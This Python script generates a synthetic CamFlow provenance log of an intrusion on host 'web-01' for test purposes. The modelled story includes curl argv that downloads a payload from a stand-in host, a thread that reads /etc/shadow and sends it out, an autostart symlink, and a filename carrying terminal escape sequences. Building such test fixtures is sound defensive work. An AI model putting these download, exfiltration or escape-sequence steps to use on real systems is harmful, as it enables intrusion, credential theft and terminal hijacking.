#!/usr/bin/env python3
"""Writes tests/data/synthetic-incident.w3c.log: a synthetic incident in CamFlow v0.9's W3C layout.

A hand-shaped trace for tests (the bundled demo is a real capture, see
stage_incident.sh): every element is chosen, including a path name that holds terminal
escape sequences, a setattr, a dangling edge and two threads. It follows CamFlow's model as camflowd writes it (see
../shared/reference/camflow-formats.md): 32-byte identifiers in base64, u64 values as
strings, a new version only when a node that already has an outgoing edge receives a new
one (node compression), version_entity / version_activity chains, reads recorded as
file->task `read` plus task->process_memory `memory_write`, writes as
process_memory->task `memory_read` plus task->file `write`.

The story, on host web-01:
  * sshd accepts a connection from 203.0.113.77 and forks a session that drops to uid 1000
    (setuid) and runs bash;
  * bash runs curl, which downloads http://198.51.100.9/x to /tmp/.x;
  * bash runs chmod +x /tmp/.x (setattr through an iattr node);
  * bash runs /tmp/.x, a two-thread process: thread A reads /etc/shadow into the shared
    process memory, thread B reads that memory and sends it to 198.51.100.9:443, so the
    flow crosses threads only through shared_write / shared_read; it then renames itself
    to /tmp/.cache-x, plants a symlink and a file whose name holds terminal escape
    sequences, and exits;
  * cron runs a job whose sh pipes into logger, which appends to /var/log/syslog (noise);
  * one relation points at a file version the capture never saw (capture started late):
    exactly one dangling edge.

Deterministic: the same script writes the same bytes. Python standard library only.
Usage: python3 tools/demo/make_demo_trace.py [OUT]
"""

import base64
import json
import struct
import sys

MACHINE = 3232235777
BOOT = 3
START_JIFFIES = 4_300_012_000

# Class bits (top byte) and relation categories, as in provenance_types.h.
DM_ACTIVITY = 0x4000 << 48
DM_ENTITY = 0x2000 << 48
DM_AGENT = 0x1000 << 48
DM_RELATION = 0x8000 << 48
CATEGORY = {
    "wasDerivedFrom": 0x0080 << 48,
    "wasGeneratedBy": 0x0040 << 48,
    "used": 0x0020 << 48,
    "wasInformedBy": 0x0010 << 48,
    "wasAssociatedWith": 0x0004 << 48,
}
# Subtype bits. Readers name types from the strings, never from these bits (they moved
# between releases), so any distinct bit per type is faithful to the format.
NODE_SUBTYPE = {
    "task": 1,
    "machine": 1 << 1,
    "process_memory": 1 << 0,
    "argv": 1 << 1,
    "file": 1 << 8,
    "directory": 1 << 9,
    "link": 1 << 10,
    "pipe": 1 << 13,
    "socket": 1 << 14,
    "packet": 1 << 20,
    "iattr": 1 << 21,
    "address": 1 << 25,
    "path": 1 << 27,
}
RELATION_ORDER = []  # relation type strings, in first-use order: their subtype bit


def relation_type(section, kind):
    if kind not in RELATION_ORDER:
        RELATION_ORDER.append(kind)
    return DM_RELATION | CATEGORY[section] | (1 << RELATION_ORDER.index(kind))


def encode(raw):
    return "cf:" + base64.b64encode(raw).decode()


def node_key(type_bits, ident, version):
    return encode(struct.pack("<QQIII4x", type_bits, ident, BOOT, MACHINE, version))


def relation_key(type_bits, ident):
    return encode(struct.pack("<QQII8x", type_bits, ident, BOOT, MACHINE))


def packet_key(ident, snd, rcv, seq):
    (sip, sport), (rip, rport) = snd, rcv
    raw = struct.pack("<QH2x", DM_ENTITY | NODE_SUBTYPE["packet"], ident)
    raw += bytes(int(x) for x in sip.split("."))
    raw += bytes(int(x) for x in rip.split("."))
    raw += struct.pack(">HH", sport, rport) + struct.pack("<B3xI", 6, seq)
    assert len(raw) == 32
    return encode(raw)


def djb2(text):
    h = 5381
    for b in text.encode():
        h = (h * 33 + b) & 0xFFFFFFFFFFFFFFFF
    return h


class Trace:
    """Elements in the order camflowd would flush them."""

    def __init__(self):
        self.elements = []  # (section, key, attrs)
        self.jiffies = START_JIFFIES
        self.second = 5
        self.next_node_id = 220_000
        self.next_relation_id = 91_000
        self.current_task_id = 0

    # --- time -------------------------------------------------------------------------
    def tick(self, jiffies=3):
        self.jiffies += jiffies
        self.second = 5 + (self.jiffies - START_JIFFIES) // 250

    def date(self):
        minute, second = divmod(self.second, 60)
        return f"2026:03:14T10:{2 + minute:02d}:{second:02d}"

    def header(self, ident, kind, version):
        return {
            "cf:id": str(ident),
            "prov:type": kind,
            "cf:boot_id": BOOT,
            "cf:machine_id": f"cf:{MACHINE}",
            "cf:version": version,
            "cf:date": self.date(),
            "cf:taint": "0",
            "cf:jiffies": str(self.jiffies),
            "cf:epoch": 1,
        }

    def new_id(self):
        self.next_node_id += 1
        return self.next_node_id

    # --- nodes --------------------------------------------------------------------------
    def add_node(self, obj):
        attrs = self.header(obj.ident, obj.kind, obj.version)
        attrs.update(obj.attrs_for_version())
        section = {"task": "activity", "machine": "agent"}.get(obj.kind, "entity")
        self.elements.append((section, obj.key(), attrs))

    def relate(self, section, kind, snd, rcv, flags="0", offset=None):
        """Records snd -> rcv, versioning rcv first if it already has an outgoing edge."""
        rcv.before_receiving(self)
        self.tick()
        self.next_relation_id += 1
        ident = self.next_relation_id
        ends = {
            "used": ("prov:entity", "prov:activity"),
            "wasGeneratedBy": ("prov:activity", "prov:entity"),
            "wasInformedBy": ("prov:informant", "prov:informed"),
            "wasDerivedFrom": ("prov:usedEntity", "prov:generatedEntity"),
            "wasAssociatedWith": ("prov:agent", "prov:activity"),
        }[section]
        attrs = {
            "cf:id": str(ident),
            "prov:type": kind,
            "cf:boot_id": BOOT,
            "cf:machine_id": f"cf:{MACHINE}",
            "cf:date": self.date(),
            "cf:taint": "0",
            "cf:jiffies": str(self.jiffies),
            "cf:epoch": 1,
            "prov:label": kind,
            "cf:allowed": "true",
            ends[0]: snd if isinstance(snd, str) else snd.key(),
            ends[1]: rcv.key(),
        }
        if offset is not None:
            attrs["cf:offset"] = str(offset)
        attrs["cf:flags"] = flags
        attrs["cf:task_id"] = str(self.current_task_id)
        key = relation_key(relation_type(section, kind), ident)
        self.elements.append((section, key, attrs))
        if not isinstance(snd, str):
            snd.has_outgoing = True

    # --- layout -------------------------------------------------------------------------
    def documents(self, per_line=24):
        prefix = '{"prefix":{"prov" : "http://www.w3.org/ns/prov", "cf":"http://www.camflow.org"}'
        order = [
            "activity", "agent", "entity", "used", "wasGeneratedBy", "wasInformedBy",
            "wasDerivedFrom", "wasAssociatedWith",
        ]
        for start in range(0, len(self.elements), per_line):
            batch = self.elements[start:start + per_line]
            parts = [prefix]
            for section in order:
                members = [(k, a) for s, k, a in batch if s == section]
                if not members:
                    continue
                body = ",".join(
                    json.dumps(k) + ":" + json.dumps(a, ensure_ascii=True, separators=(",", ":"))
                    for k, a in members
                )
                parts.append(f'"{section}":{{{body}}}')
            yield ", ".join(parts) + "}"


class Obj:
    """One CamFlow object; each state change is a new version."""

    def __init__(self, trace, kind, attrs, ident=None, label=None):
        self.kind = kind
        self.ident = ident if ident is not None else trace.new_id()
        self.version = 0
        self.attrs = attrs
        self.label = label
        self.has_outgoing = False
        trace.add_node(self)

    def key(self):
        return node_key(self.type_bits(), self.ident, self.version)

    def type_bits(self):
        cls = {"task": DM_ACTIVITY, "machine": DM_AGENT}.get(self.kind, DM_ENTITY)
        return cls | NODE_SUBTYPE[self.kind]

    def attrs_for_version(self):
        out = dict(self.attrs)
        if self.label is not None:
            out["prov:label"] = self.label
        else:
            word = {"process_memory": "process"}.get(self.kind, self.kind)
            out["prov:label"] = f"[{word}] {self.version}"
        return out

    def before_receiving(self, trace):
        if not self.has_outgoing or self.kind in ("path", "argv", "address", "machine"):
            return
        old = self.key()
        self.version += 1
        self.has_outgoing = False
        trace.tick(1)
        trace.add_node(self)
        if self.kind == "task":
            trace.relate("wasInformedBy", "version_activity", old, self)
        else:
            trace.relate("wasDerivedFrom", "version_entity", old, self)


class Packet:
    def __init__(self, trace, ident, snd, rcv, seq, length):
        self.kind = "packet"
        self.has_outgoing = False
        self._key = packet_key(ident, snd, rcv, seq)
        s, r = f"{snd[0]}:{snd[1]}", f"{rcv[0]}:{rcv[1]}"
        trace.elements.append(("entity", self._key, {
            "cf:id": ident, "cf:seq": seq, "cf:sender": s, "cf:receiver": r,
            "prov:type": "packet", "cf:taint": "0", "cf:jiffies": str(trace.jiffies),
            "cf:len": length, "prov:label": f"[packet] {s}->{r} ({ident})",
        }))

    def key(self):
        return self._key

    def before_receiving(self, trace):
        pass


class Scenario:
    def __init__(self):
        self.t = Trace()
        t = self.t
        self.machine = Obj(t, "machine", {
            "cf:u_sysname": "Linux", "cf:u_nodename": "web-01", "cf:u_release": "6.1.0-camflow",
            "cf:u_version": "#1 SMP PREEMPT_DYNAMIC Debian 6.1.115-1", "cf:u_machine": "x86_64",
            "cf:u_domainname": "(none)", "cf:k_version": "0.9.0",
            "cf:k_commit": "3e9ed4c6b1f1e3ad4d4f1b8e0a8b3f2f1c0d9e8a", "cf:l_version": "v0.5.5",
            "cf:l_commit": "a1b2c3d4e5f60718293a4b5c6d7e8f9012345678",
        }, ident=7_731_003_219_870_772_351, label="[machine]")
        self.paths = {}
        self.files = {}
        self.next_ino = 1_310_700

    # --- objects ------------------------------------------------------------------------
    def path(self, name):
        if name not in self.paths:
            self.paths[name] = Obj(self.t, "path", {"cf:pathname": name},
                                   ident=djb2(name), label=f"[path] {name}")
        return self.paths[name]

    def inode(self, kind, mode, uid=0, gid=0, secctx="system_u:object_r:unlabeled_t:s0"):
        self.next_ino += 17
        return Obj(self.t, kind, {
            "cf:uid": uid, "cf:gid": gid, "cf:mode": mode, "cf:secctx": secctx,
            "cf:ino": self.next_ino, "cf:uuid": "5d0b9f4e-7a31-4c1e-9a0e-3f2b8c6d1a47",
        })

    def file(self, name, mode="0x81a4", uid=0, gid=0, kind="file", existing=True,
             secctx="system_u:object_r:unlabeled_t:s0"):
        """A named file; `existing` files are named when first used."""
        if name in self.files:
            return self.files[name]
        f = self.inode(kind, mode, uid, gid, secctx)
        self.files[name] = f
        if existing:
            self.t.relate("wasDerivedFrom", "named", self.path(name), f)
        return f

    def process_memory(self, uid, gid, tgid):
        return Obj(self.t, "process_memory", {
            "cf:uid": uid, "cf:gid": gid, "cf:tgid": tgid,
            "cf:utsns": 4026531838, "cf:ipcns": 4026531839, "cf:mntns": 4026531841,
            "cf:pidns": 4026531836, "cf:netns": 4026531840, "cf:cgroupns": 4026531835,
            "cf:secctx": "unconfined_u:unconfined_r:unconfined_t:s0",
        })

    def task(self, pid, tid):
        t = Obj(self.t, "task", {
            "cf:pid": tid, "cf:vpid": tid, "cf:utime": "0", "cf:stime": "0", "cf:vm": "0",
            "cf:rss": "0", "cf:hw_vm": "0", "cf:hw_rss": "0", "cf:rbytes": "0", "cf:wbytes": "0",
            "cf:cancel_wbytes": "0", "cf:utsns": 4026531838, "cf:ipcns": 4026531839,
            "cf:mntns": 4026531841, "cf:pidns": 4026531836, "cf:netns": 4026531840,
            "cf:cgroupns": 4026531835,
        })
        t.pid = pid
        t.pm = None
        self.t.relate("wasAssociatedWith", "ran_on", self.machine, t)
        return t

    # --- actions ------------------------------------------------------------------------
    def as_task(self, task):
        self.t.current_task_id = task.ident

    def start_process(self, pid, uid, gid, argv, exe):
        """A process seen already running when the capture starts."""
        task = self.task(pid, pid)
        task.pm = self.process_memory(uid, gid, pid)
        self.t.relate("wasDerivedFrom", "named", self.path(exe), task.pm)
        self.args(task.pm, argv)
        self.t.relate("used", "memory_read", task.pm, task)
        return task

    def args(self, pm, argv):
        for a in argv:
            arg = Obj(self.t, "argv", {"cf:value": a, "cf:truncated": "false"},
                      label=f"[argv] {a}")
            self.t.relate("wasDerivedFrom", "arg", arg, pm)

    def fork(self, parent, pid):
        """clone without CLONE_VM: a new task and a new process memory."""
        self.as_task(parent)
        child = self.task(pid, pid)
        uid, gid = parent.pm.attrs["cf:uid"], parent.pm.attrs["cf:gid"]
        child.pm = self.process_memory(uid, gid, pid)
        self.t.relate("used", "memory_read", parent.pm, parent)
        self.t.relate("wasGeneratedBy", "clone_mem", parent, child.pm)
        self.t.relate("wasInformedBy", "clone", parent, child)
        self.t.relate("used", "memory_read", child.pm, child)
        return child

    def thread(self, parent, tid):
        """clone with CLONE_VM: a new task sharing the parent's process memory."""
        self.as_task(parent)
        child = self.task(parent.pid, tid)
        child.pm = parent.pm
        self.t.relate("wasInformedBy", "clone", parent, child)
        self.t.relate("used", "memory_read", child.pm, child)
        return child

    def exec(self, task, exe, argv):
        self.as_task(task)
        binary = self.file(exe, mode="0x81ed")
        self.t.relate("used", "open", binary, task)
        self.t.relate("used", "perm_check", binary, task, flags="21")
        uid, gid = task.pm.attrs["cf:uid"], task.pm.attrs["cf:gid"]
        new_pm = self.process_memory(uid, gid, task.pid)
        self.t.relate("wasGeneratedBy", "exec_task", task, new_pm)
        self.t.relate("wasDerivedFrom", "exec", binary, new_pm)
        self.t.relate("wasDerivedFrom", "named", self.path(exe), new_pm)
        self.args(new_pm, argv)
        self.t.relate("used", "mmap_private", binary, task, flags="101802")
        task.pm = new_pm
        self.t.relate("used", "memory_read", new_pm, task)

    def read(self, task, obj, kind="read"):
        self.as_task(task)
        self.t.relate("used", kind, obj, task, flags="4")
        self.t.relate("wasGeneratedBy", "memory_write", task, task.pm)

    def write(self, task, obj, kind="write", flags="2"):
        self.as_task(task)
        self.t.relate("used", "memory_read", task.pm, task)
        self.t.relate("wasGeneratedBy", kind, task, obj, flags=flags)

    def create(self, task, name, mode="0x81a4"):
        self.as_task(task)
        uid, gid = task.pm.attrs["cf:uid"], task.pm.attrs["cf:gid"]
        f = self.file(name, mode=mode, uid=uid, gid=gid, existing=False)
        self.t.relate("wasGeneratedBy", "inode_create", task, f)
        self.t.relate("wasDerivedFrom", "named", self.path(name), f)
        return f

    def socket(self, task, host, port):
        self.as_task(task)
        uid, gid = task.pm.attrs["cf:uid"], task.pm.attrs["cf:gid"]
        sock = self.inode("socket", "0xc1ff", uid, gid)
        self.t.relate("wasGeneratedBy", "socket_create", task, sock)
        addr = Obj(self.t, "address",
                   {"cf:address": {"type": "AF_INET", "host": host, "serv": str(port)}},
                   label=f"[address] IPV4 {host} ({port})")
        self.t.relate("wasDerivedFrom", "addressed", addr, sock)
        return sock

    def connect(self, task, sock):
        self.write(task, sock, kind="connect", flags="0")

    def send(self, task, sock, packets):
        self.write(task, sock, kind="send")
        for p in packets:
            self.t.relate("wasDerivedFrom", "send_packet", sock, p)

    def receive(self, task, sock, packets):
        for p in packets:
            self.t.relate("wasDerivedFrom", "receive_packet", p, sock)
        self.read(task, sock, kind="receive")

    def setattr(self, task, f, mode):
        self.as_task(task)
        self.t.relate("used", "memory_read", task.pm, task)
        ident = self.t.new_id()
        iattr = Obj(self.t, "iattr", {
            "cf:valid": "0x1", "cf:mode": mode, "cf:uid": 0, "cf:gid": 0, "cf:size": "0",
            "cf:atime": "0", "cf:ctime": "0", "cf:mtime": "0",
        }, ident=ident, label=f"[iattr] {ident}")
        self.t.relate("wasGeneratedBy", "setattr", task, iattr)
        self.t.relate("wasDerivedFrom", "setattr_inode", iattr, f)

    def rename(self, task, f, new_name):
        self.as_task(task)
        self.t.relate("used", "memory_read", task.pm, task)
        self.t.relate("wasGeneratedBy", "rename", task, f)
        self.t.relate("wasDerivedFrom", "named", self.path(new_name), f)

    def exit(self, task, last_thread=True):
        """terminate_task closes the task; the last thread also closes its process."""
        self.as_task(task)
        for obj, kind, section in [(task, "terminate_task", "wasInformedBy")] + (
            [(task.pm, "terminate_proc", "wasDerivedFrom")] if last_thread else []
        ):
            old = obj.key()
            obj.version += 1
            obj.has_outgoing = False
            self.t.tick(1)
            self.t.add_node(obj)
            self.t.relate(section, kind, old, obj)

    # --- the story ----------------------------------------------------------------------
    def run(self):
        t = self.t
        attacker = ("203.0.113.77", 51122)
        web = ("10.0.0.5", 22)
        c2 = "198.51.100.9"

        # Capture starts with sshd and cron already running.
        sshd = self.start_process(812, 0, 0, ["/usr/sbin/sshd", "-D"], "/usr/sbin/sshd")
        cron = self.start_process(611, 0, 0, ["/usr/sbin/cron", "-f"], "/usr/sbin/cron")
        self.read(sshd, self.file("/etc/ssh/sshd_config"))

        # The one dangling edge: a read of a file version the capture never recorded.
        self.as_task(sshd)
        unseen = node_key(DM_ENTITY | NODE_SUBTYPE["file"], 219_000, 4)
        t.relate("used", "read", unseen, sshd, flags="4")

        # sshd accepts the connection and forks the session.
        listener = self.socket(sshd, "0.0.0.0", 22)
        syn = Packet(t, 40211, attacker, web, 1, 60)
        self.receive(sshd, listener, [syn])
        session = self.fork(sshd, 4101)
        self.read(session, self.file("/etc/passwd"))
        self.as_task(session)
        t.relate("used", "memory_read", session.pm, session)
        dropped = self.process_memory(1000, 1000, 4101)
        t.relate("wasGeneratedBy", "setuid", session, dropped)
        session.pm = dropped
        t.relate("used", "memory_read", dropped, session)

        bash = self.fork(session, 4102)
        self.exec(bash, "/usr/bin/bash", ["-bash"])
        self.read(bash, self.file("/home/alice/.bashrc", uid=1000, gid=1000))

        # curl downloads the payload.
        curl = self.fork(bash, 4120)
        self.exec(curl, "/usr/bin/curl", ["curl", "-so", "/tmp/.x", f"http://{c2}/x"])
        self.read(curl, self.file("/etc/resolv.conf"))
        sock = self.socket(curl, c2, 80)
        self.connect(curl, sock)
        local = ("10.0.0.5", 40518)
        self.send(curl, sock, [Packet(t, 512, local, (c2, 80), 1, 140)])
        self.receive(curl, sock, [Packet(t, 7001 + i, (c2, 80), local, 2 + i, 1500) for i in range(3)])
        payload = self.create(curl, "/tmp/.x")
        self.write(curl, payload)
        self.exit(curl)

        # chmod +x /tmp/.x
        chmod = self.fork(bash, 4121)
        self.exec(chmod, "/usr/bin/chmod", ["chmod", "+x", "/tmp/.x"])
        self.setattr(chmod, payload, "0x81ed")
        self.exit(chmod)

        # The payload runs: two threads, data crosses them through shared memory.
        implant = self.fork(bash, 4130)
        self.exec(implant, "/tmp/.x", ["/tmp/.x"])
        worker = self.thread(implant, 4131)
        self.read(implant, self.file("/etc/shadow", mode="0x8180", secctx="system_u:object_r:shadow_t:s0"))
        exfil = self.socket(worker, c2, 443)
        self.connect(worker, exfil)
        out = ("10.0.0.5", 40522)
        self.send(worker, exfil, [Packet(t, 9100 + i, out, (c2, 443), 1 + i, 1200) for i in range(2)])

        # Cover tracks: rename, a symlink, a file whose name attacks the terminal.
        self.rename(implant, payload, "/tmp/.cache-x")
        link = self.file("/home/alice/.config/autostart.sh", kind="link", mode="0xa1ff",
                         uid=1000, gid=1000, existing=False)
        self.as_task(implant)
        t.relate("used", "memory_read", implant.pm, implant)
        t.relate("wasGeneratedBy", "symlink", implant, link)
        t.relate("wasDerivedFrom", "named", self.path("/home/alice/.config/autostart.sh"), link)
        hostile = self.create(implant, "/tmp/\x1b]0;owned\x07\x1b[2Jreadme")
        self.write(implant, hostile)
        self.exit(worker, last_thread=False)
        self.exit(implant)

        # cron: sh | logger >> /var/log/syslog
        job = self.fork(cron, 4200)
        self.exec(job, "/usr/bin/sh", ["/bin/sh", "-c", "run-parts /etc/cron.hourly | logger"])
        pipe = self.inode("pipe", "0x1180")
        logger = self.fork(job, 4201)
        self.exec(logger, "/usr/bin/logger", ["logger"])
        self.read(job, self.file("/etc/cron.hourly/backup", mode="0x81ed"))
        self.write(job, pipe)
        self.read(logger, pipe)
        self.write(logger, self.file("/var/log/syslog", mode="0x81a0"), flags="402")
        self.exit(logger)
        self.exit(job)
        return t


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else "tests/data/synthetic-incident.w3c.log"
    trace = Scenario().run()
    with open(out, "w", encoding="ascii", newline="\n") as f:
        for line in trace.documents():
            f.write(line + "\n")


if __name__ == "__main__":
    main()
